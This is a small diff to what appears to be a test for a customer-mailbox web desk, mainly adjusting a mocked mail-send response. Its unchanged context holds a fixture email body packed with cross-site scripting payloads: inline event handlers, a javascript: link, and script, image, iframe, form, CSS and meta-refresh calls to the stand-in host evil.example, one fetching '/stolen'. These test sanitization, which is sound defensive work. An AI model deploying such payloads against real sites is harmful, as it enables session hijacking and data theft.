@@ -10,7 +10,6 @@ import { DEMO_TOKEN, openWebDesk, type WebDesk } from './web-desk.js';
 import type { Letter } from '../../src/web/customer-mailbox.js';
 
 declare global {
-  // eslint-disable-next-line no-var -- how a global is declared
   var axe: { run(options: RunOptions): Promise<AxeResults> };
 }
 
@@ -31,7 +30,7 @@ beforeAll(async () => {
   const html = '<h1 onclick="document.title=\'pwned\'">Hi</h1><script>fetch("https://evil.example/stolen")</script><img src="https://evil.example/pixel.gif" onerror="parent.document.title=\'pwned\'"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form"><input name="x"></form><style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/css2"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><a href="javascript:alert(1)">click</a><svg onload="alert(1)"></svg>';
   await under.receive(mailFrom('Eve Novak <eve@customer.example>', 'Broken cup', html, { 'Content-Type': 'text/html; charset=utf-8', 'Message-ID': '<first@customer.example>' }));
   await under.say('anna', 'note', 1, { text: 'For us: **look** at `order 7`.\n\n> quoted\n\n- one\n- two' });
-  under.mail.send = async () => ({ response: 'ok' });
+  under.mail.send = async () => ({ response: 'ok', refused: [] });
   await under.say('anna', 'reply', 1, { text: 'We look at it.' });
   under.pass(20_000);
   await under.settle();
